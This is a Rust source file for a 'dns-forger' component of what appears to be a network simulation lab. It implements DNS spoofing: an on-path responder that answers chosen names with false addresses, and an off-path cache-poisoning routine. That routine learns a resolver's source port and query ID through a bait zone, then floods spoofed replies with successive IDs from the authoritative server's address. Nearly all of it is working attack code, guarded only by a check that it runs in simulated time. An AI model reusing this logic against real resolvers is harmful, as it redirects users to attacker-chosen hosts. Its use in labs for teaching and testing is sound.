//! The liar, for simulated worlds only. On the path it answers in the server's place; off the path it cannot see the
//! question and has to guess its port and its ID (RFC 5452 §4). Anywhere else than in a lab it refuses to run.

use core::time::Duration;
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use hickory_proto::op::{Message, MessageType};
use hickory_proto::rr::rdata::{A, AAAA};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use net::UdpSocket;
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::{Map, Value};
use tokio::time::{Instant, sleep, timeout};

use super::exchange::any;
use super::message::{self, bare, query, reply_to};
use super::random::Random;
use super::server::name as parse_name;
use super::service::{Answering, Asked, Encrypted, Service, own_addresses, serve};
use crate::app::read_table;
use crate::{App, AppFuture, Cx, Env, Problem, Ready};

/// The table of `app = "dns-forger"`.
#[derive(Clone, Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct DnsForger {
    /// What it says of names: the addresses that it wants people to go to.
    pub names: BTreeMap<String, IpAddr>,
    /// The TTL of its lies, in s; a day unless given.
    #[serde(default = "day")]
    pub ttl: u32,
    /// On the path: the addresses whose questions it answers, the server's among them; all of its host's unless given.
    /// The host must have them (`ip addr add 192.0.2.53/32 dev lo`), so that the packets end here.
    #[serde(default)]
    pub listen: Vec<IpAddr>,
    /// On the path: the resolver that answers for all other names; without it nobody does.
    #[serde(default)]
    pub otherwise: Option<IpAddr>,
    /// Off the path: whom it deceives, and how.
    #[serde(default)]
    pub blind: Option<Blind>,
}

/// Forging answers to questions that one cannot see.
#[derive(Clone, Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Blind {
    /// The resolver whose cache is to be poisoned. It answers anybody, the attacker included.
    pub resolver: IpAddr,
    /// The server in whose name the forged replies come. The attacker's host has its address, too.
    pub server: IpAddr,
    /// A zone of the attacker's own. The resolver's question for a name in it shows the port and the ID that it uses.
    pub bait: String,
    /// Forged replies for each question, with the IDs that follow the one seen.
    pub replies: u32,
    /// How often it tries.
    pub windows: u32,
    /// What passes between two tries, in s: as long as the true answer stays in the cache.
    pub pause: f64,
}

fn day() -> u32 {
    86_400
}

/// Forged replies in one window at most.
const REPLIES: u32 = 1_000_000;
/// How long anybody waits for a reply.
const PATIENCE: Duration = Duration::from_secs(5);
/// From the attacker's question to the forged replies: the resolver has to ask first.
const LEAD: Duration = Duration::from_millis(1);

/// Reads the table.
///
/// # Errors
/// What is wrong with keys and names.
pub fn read(table: &Map<String, Value>, _: &Env) -> Result<Ready, Vec<Problem>> {
    let config: DnsForger = read_table(table)?;
    let mut problems = Vec::new();
    let mut names = Vec::new();
    for (text, address) in &config.names {
        match parse_name(text, &["names", text]) {
            Ok(name) => names.push((name, *address)),
            Err(problem) => problems.push(problem),
        }
    }
    let bait = config.blind.as_ref().map(|blind| parse_name(&blind.bait, &["blind", "bait"])).transpose();
    let bait = bait.unwrap_or_else(|problem| {
        problems.push(problem);
        None
    });
    if config.names.is_empty() || (config.blind.is_some() && config.names.len() != 1) {
        let message = if config.blind.is_some() {
            "blind forging is for one name"
        } else {
            "there is no name to lie about"
        };
        problems.push(Problem { path: vec!["names".into()], message: message.into(), help: None });
    }
    if config.blind.as_ref().is_some_and(|blind| blind.replies > REPLIES) {
        let path = ["blind", "replies"].map(String::from).into();
        problems.push(Problem { path, message: format!("more than {REPLIES} replies"), help: None });
    }
    if problems.is_empty() { Ok(Arc::new(Forger { config, names, bait })) } else { Err(problems) }
}

/// A forger whose table is read.
#[derive(Clone, Debug)]
struct Forger {
    config: DnsForger,
    names: Vec<(Name, IpAddr)>,
    bait: Option<Name>,
}

impl App for Forger {
    fn run(self: Arc<Self>, cx: Cx) -> AppFuture {
        Box::pin(async move {
            if !net::Host::current().is_some_and(|host| host.in_virtual_time()) {
                cx.print("dns-forger: it runs in simulated worlds only");
                return 1;
            }
            match (self.config.blind.clone(), self.bait.clone()) {
                (Some(blind), Some(bait)) => self.forge_blindly(&cx, &blind, &bait).await,
                _ => {
                    let addresses = own_addresses(&cx, &self.config.listen);
                    serve(
                        &cx,
                        Arc::new(OnPath { forger: self, cx: cx.clone() }),
                        addresses,
                        53,
                        Encrypted::default(),
                    )
                    .await
                }
            }
        })
    }

    fn serves(&self) -> bool {
        self.config.blind.is_none()
    }
}

impl Forger {
    /// The lie about a question, if there is one.
    fn lie(&self, asked: &Message) -> Option<Message> {
        let question = asked.queries.first()?;
        let address = self.names.iter().find(|(name, _)| *name == question.name)?.1;
        let mut reply = reply_to(asked);
        reply.metadata.recursion_available = asked.metadata.recursion_desired;
        reply.metadata.authoritative = !asked.metadata.recursion_desired;
        let data = match (address, question.query_type) {
            (IpAddr::V4(v4), RecordType::A) => Some(RData::A(A(v4))),
            (IpAddr::V6(v6), RecordType::AAAA) => Some(RData::AAAA(AAAA(v6))),
            _ => None,
        };
        reply.add_answers(data.map(|data| Record::from_rdata(question.name.clone(), self.config.ttl, data)));
        Some(reply)
    }

    /// Window after window: look at the resolver's ID and port, make it ask, and answer faster than the true server.
    async fn forge_blindly(&self, cx: &Cx, blind: &Blind, bait: &Name) -> i32 {
        let Some((name, address)) = self.names.first() else { return 1 };
        let mut random = Random::new(cx.seed("forger"));
        let sockets = async {
            let own = UdpSocket::bind(SocketAddr::new(any(SocketAddr::new(blind.resolver, 53)), 0)).await?;
            let bait = match cx.env().hosts.get(&cx.env().host).and_then(|own| own.first()) {
                Some(first) => UdpSocket::bind(SocketAddr::new(*first, 53)).await?,
                None => UdpSocket::bind("0.0.0.0:53").await?,
            };
            std::io::Result::Ok((own, bait, UdpSocket::bind(SocketAddr::new(blind.server, 53)).await?))
        };
        let (own, bait_socket, spoofed) = match sockets.await {
            Ok(sockets) => sockets,
            Err(error) => {
                cx.print(format!("dns-forger: {error}; the host needs the address {}", blind.server));
                return 1;
            }
        };
        let resolver = SocketAddr::new(blind.resolver, 53);
        let mut sent = 0_u64;
        for window in 1..=blind.windows {
            let Some((id, port)) = look(&mut random, &own, &bait_socket, resolver, bait, window).await else {
                cx.print(format!("window {window}: the resolver did not ask for {}", bare(bait)));
                return 1;
            };
            let asked = query(random.bits16(), name.clone(), RecordType::A, true);
            let Ok(bytes) = asked.to_vec() else { return 1 };
            let _ = own.send_to(&bytes, resolver).await;
            sleep(LEAD).await;
            sent +=
                self.flood(&spoofed, SocketAddr::new(blind.resolver, port), name, id, blind.replies).await;
            let believed = answer_to(&own, &asked).await;
            let saw = format!("window {window}: ID {id} and port {port} seen");
            if believed == Some(*address) {
                let lie = format!("the resolver believes that {} is {address}", bare(name));
                cx.print(format!("{saw}, {} replies forged: {lie}", blind.replies));
                cx.print(format!("{sent} forged replies in {window} windows: poisoned"));
                return 0;
            }
            let truth = believed.map_or("nothing".into(), |ip| ip.to_string());
            cx.print(format!("{saw}, {} replies forged: the resolver says {truth}", blind.replies));
            if window < blind.windows {
                sleep(Duration::try_from_secs_f64(blind.pause).unwrap_or_default()).await;
            }
        }
        cx.print(format!("{sent} forged replies in {} windows: none was believed", blind.windows));
        2
    }

    /// Replies with the IDs after the one that was seen.
    async fn flood(&self, spoofed: &UdpSocket, to: SocketAddr, name: &Name, id: u16, replies: u32) -> u64 {
        let mut sent = 0;
        for n in 1..=replies {
            // IDs wrap.
            let guess = id.wrapping_add(u16::try_from(n % (1 << 16)).expect("below 2^16"));
            let question = query(guess, name.clone(), RecordType::A, false);
            let Some(bytes) = self.lie(&question).and_then(|reply| reply.to_vec().ok()) else { return sent };
            sent += u64::from(spoofed.send_to(&bytes, to).await.is_ok());
        }
        sent
    }
}

/// Makes the resolver ask us for a name of our own: its ID and port.
async fn look(
    random: &mut Random,
    own: &UdpSocket,
    bait_socket: &UdpSocket,
    resolver: SocketAddr,
    bait: &Name,
    window: u32,
) -> Option<(u16, u16)> {
    let name = bait.prepend_label(format!("w{window}").as_str()).ok()?;
    let asked = query(random.bits16(), name.clone(), RecordType::A, true);
    own.send_to(&asked.to_vec().ok()?, resolver).await.ok()?;
    let mut buffer = vec![0; message::LONGEST];
    let deadline = Instant::now() + PATIENCE;
    loop {
        let received = tokio::time::timeout_at(deadline, bait_socket.recv_from(&mut buffer)).await;
        let (n, from) = received.ok()?.ok()?;
        let Ok(question) = Message::from_vec(&buffer[..n]) else { continue };
        let Some(of) =
            question.queries.first().filter(|_| question.metadata.message_type == MessageType::Query)
        else {
            continue;
        };
        // Any address will do; the resolver shall not ask again.
        let mut reply = reply_to(&question);
        reply.metadata.authoritative = true;
        let wanted = of.name == name && of.query_type == RecordType::A;
        if wanted && let SocketAddr::V4(v4) = from {
            reply.add_answer(Record::from_rdata(of.name.clone(), 0, RData::A(A(*v4.ip()))));
        }
        bait_socket.send_to(&reply.to_vec().ok()?, from).await.ok()?;
        if wanted {
            answer_to(own, &asked).await;
            return Some((question.metadata.id, from.port()));
        }
    }
}

/// The address that the resolver gives us.
async fn answer_to(own: &UdpSocket, asked: &Message) -> Option<IpAddr> {
    let mut buffer = vec![0; message::LONGEST];
    let deadline = Instant::now() + PATIENCE;
    loop {
        let (n, _) = tokio::time::timeout_at(deadline, own.recv_from(&mut buffer)).await.ok()?.ok()?;
        let Ok(reply) = Message::from_vec(&buffer[..n]) else { continue };
        if reply.metadata.id != asked.metadata.id {
            continue;
        }
        return reply.answers.iter().find_map(|record| match &record.data {
            RData::A(a) => Some(IpAddr::V4(a.0)),
            _ => None,
        });
    }
}

/// Sits where the questions pass.
struct OnPath {
    forger: Arc<Forger>,
    cx: Cx,
}

impl Service for OnPath {
    fn answer(self: Arc<Self>, asked: Asked) -> Answering {
        Box::pin(async move {
            let question = asked.query.queries.first()?;
            if let Some(reply) = self.forger.lie(&asked.query) {
                let (name, kind) = (bare(&question.name), question.query_type);
                let lie =
                    reply.answers.first().map_or("nothing".into(), |record| message::rdata(&record.data));
                self.cx.print(format!("{} asks for {name} {kind}: told {lie}", asked.client.ip()));
                return Some(reply);
            }
            let server = SocketAddr::new(self.forger.config.otherwise?, 53);
            let socket = UdpSocket::bind(SocketAddr::new(any(server), 0)).await.ok()?;
            socket.connect(server).await.ok()?;
            socket.send(&asked.query.to_vec().ok()?).await.ok()?;
            let mut buffer = vec![0; message::LONGEST];
            let n = timeout(PATIENCE, socket.recv(&mut buffer)).await.ok()?.ok()?;
            Message::from_vec(&buffer[..n]).ok()
        })
    }
}
